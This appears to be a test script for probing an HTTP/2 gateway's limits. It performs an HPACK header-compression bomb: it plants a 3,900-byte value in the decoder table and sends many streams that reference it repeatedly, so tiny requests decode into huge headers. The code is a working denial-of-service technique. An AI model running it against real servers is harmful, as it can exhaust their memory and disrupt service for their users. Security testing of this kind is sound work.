"""Sends HTTP/2 requests whose heads are some bytes as they come and much as they are decoded, all at once on one connection.

    h2_bomb.py HOST:PORT SOURCE PATH FIELDS STREAMS

Plants a field of 3,900 bytes in the decoder's table, then opens STREAMS streams, each of which refers to it FIELDS times, a byte each. Its
last line is a JSON object: how many streams had which status, the reasons in their answers, and codes of GOAWAY.
"""

import collections
import json
import sys

import hyperframe.frame
from hpack.hpack import encode_integer

from h2_client import Client

VALUE = b"v" * 3900
PLANTED = b"\x40\x01x" + encode_integer(len(VALUE), 7) + VALUE  # Literal with incremental indexing (RFC 7541 section 6.2.1).
REFERENCE = b"\xbe"  # Its newest entry (section 6.1).


def head(path):
    return b"\x82\x86\x01\x01a\x04" + encode_integer(len(path), 7) + path


class Bomber(Client):
    def request(self, block):
        stream_id = self.h2.get_next_available_stream_id()
        self.streams[stream_id] = {"interim": [], "status": None, "body": b"", "trailers": None, "end": None}
        self.h2.send_headers(stream_id, self.headers("/x"), end_stream=True)
        self.h2.data_to_send()  # Only the machine's view of the stream is wanted.
        flags = ["END_HEADERS", "END_STREAM"]
        self.sock.sendall(hyperframe.frame.HeadersFrame(stream_id, block, flags=flags).serialize())
        return stream_id

    def is_over(self):
        told = [stream["status"] or stream["end"] for stream in self.streams.values()]
        # GOAWAY without an error lets streams end.
        return all(told) or any(self.goaway)


def main():
    address, source, path, fields, streams = sys.argv[1:]
    client = Bomber(address, source=source)
    client.finish(client.request(head(b"/allowed/plant") + PLANTED))
    del client.streams[1]
    for _ in range(int(streams)):
        client.request(head(path.encode()) + REFERENCE * int(fields))
    while not client.is_over() and client.pump():
        pass
    statuses, reasons = collections.Counter(), collections.Counter()
    for stream in client.streams.values():
        statuses[str(stream["status"])] += 1
        reasons[dict(stream.get("headers", ())).get("x-tollgate-reason")] += 1
    reasons.pop(None, None)
    print(json.dumps({"statuses": statuses, "reasons": reasons, "goaway": sorted(set(client.goaway))}))


main()
